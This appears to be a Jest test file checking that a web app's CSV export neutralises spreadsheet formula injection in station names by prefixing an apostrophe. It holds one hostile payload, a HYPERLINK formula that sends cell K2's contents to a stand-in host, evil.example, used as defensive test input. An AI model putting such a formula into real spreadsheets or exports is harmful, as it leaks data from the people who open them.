/**
 * Class: CSV formula injection. Names that staff and partners type (a station, an item's title)
 * reach the tables national staff open in Excel or LibreOffice. A cell that a spreadsheet would
 * run as a formula must arrive as text. The rule's home: src/lib/csv.ts.
 */
import { beforeAll, describe, expect, it } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import { periodOf } from '@/reach/periods'
import { adminLogin, api, server } from '../helpers/http'

const run = Date.now()
const formula = `=HYPERLINK("https://evil.example/?d="&K2,"Open ${run}")`
let admin: string

beforeAll(async () => {
  admin = await adminLogin()
})

describe('/api/reach/export.csv neutralises formulas', () => {
  it('writes a station named like a formula as text, with an apostrophe in front', async () => {
    const province = (
      await api<{ docs: { id: number }[] }>('/api/provinces?where[code][equals]=LA-SV')
    ).body.docs[0]
    const station = await api<{ doc: { id: number } }>('/api/stations', {
      method: 'POST',
      token: admin,
      body: { name: formula, kind: 'radio', province: province.id },
    })
    expect(station.status).toBe(201)
    const song = (await api<{ docs: { id: number }[] }>('/api/songs?limit=1', { token: admin }))
      .body.docs[0]
    const broadcast = await api('/api/broadcasts', {
      method: 'POST',
      token: admin,
      body: {
        station: station.body.doc.id,
        item: { relationTo: 'songs', value: song.id },
        plannedAt: new Date().toISOString(),
        status: 'planned',
      },
    })
    expect(broadcast.status).toBe(201)
    const res = await fetch(`${server().url}/api/reach/export.csv?period=${periodOf()}`, {
      headers: { Authorization: `JWT ${admin}` },
    })
    expect(res.status).toBe(200)
    const rows = parse(await res.text(), { columns: true, bom: true }) as Record<string, string>[]
    const cells = rows.filter((r) => r.station.includes(`Open ${run}`)).map((r) => r.station)
    expect(cells.length).toBeGreaterThan(0)
    expect(new Set(cells)).toEqual(new Set([`'${formula}`]))
    expect(rows.some((r) => Object.values(r).some((v) => /^[=+@\t\r]/.test(v)))).toBe(false)
  })
})
